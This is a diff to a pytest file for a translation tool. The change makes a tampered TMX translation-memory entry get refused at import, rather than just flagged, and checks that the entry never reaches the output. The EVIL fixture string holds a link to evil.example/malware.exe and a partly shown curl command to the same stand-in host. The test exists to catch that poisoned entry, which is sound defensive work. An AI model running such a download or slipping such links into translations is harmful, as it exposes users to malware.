@@ -3,8 +3,8 @@ counted honestly, and never costs the user their own translations."""
 
 from __future__ import annotations
 
-import json
 import os
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -24,7 +24,7 @@ EVIL = "Voir [le guide](https://evil.example/malware.exe) et lancez `curl evil.e
 
 
 @pytest.fixture
-def emu(monkeypatch: pytest.MonkeyPatch) -> Emulator:
+def emu(monkeypatch: pytest.MonkeyPatch) -> Iterator[Emulator]:
     with Emulator(answer=answer_in_language) as e:
         use_emulator(monkeypatch, e)
         yield e
@@ -35,29 +35,20 @@ def tmx_file(path: Path, pairs: list[tuple[str, str]], lang: str = "fr") -> Path
     return write(path, write_tmx(units))
 
 
-def test_a_tmx_that_changes_a_link_and_a_command_is_flagged_as_a_model_answer_would_be(
+def test_a_tmx_that_changes_a_link_and_a_command_is_not_imported_and_never_published(
     tmp_path: Path, emu: Emulator, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    tmx = tmx_file(tmp_path / "agency.tmx", [(SOURCE, EVIL)])
+    tmx = tmx_file(tmp_path / "agency.tmx", [(SOURCE, EVIL), ("Hello.", "Bonjour.")])
     assert run(["memory", "import", str(tmx)]) == 0
-    assert "1 flagged" in capsys.readouterr().out
+    out, err = capsys.readouterr()
+    assert "kept 1 of 2" in out and "1 refused" in out
+    (line,) = [x for x in err.splitlines() if "not imported" in x]
+    assert "See [the guide]" in line and "evil.example" in line  # the entry, named
     doc = write(tmp_path / "doc.md", SOURCE + "\n")
-    report = tmp_path / "r.json"
-    run(
-        [
-            "translate",
-            str(doc),
-            "--to",
-            "fr",
-            "-o",
-            str(tmp_path / "out.md"),
-            "--report",
-            str(report),
-        ]
-    )
-    assert emu.request_count == 0  # answered from the memory
-    flags = json.loads(report.read_text(encoding="utf-8"))["documents"][0]["flags"]
-    assert {"links", "inline_code"} <= {f["check"] for f in flags}
+    out_md = tmp_path / "out.md"
+    assert run(["translate", str(doc), "--to", "fr", "-o", str(out_md)]) == 0
+    assert emu.request_count >= 1  # asked of the model, not taken from the file
+    assert "evil.example" not in out_md.read_text(encoding="utf-8")
 
 
 def test_a_tmx_import_never_evicts_the_users_own_translations(tmp_path: Path) -> None:
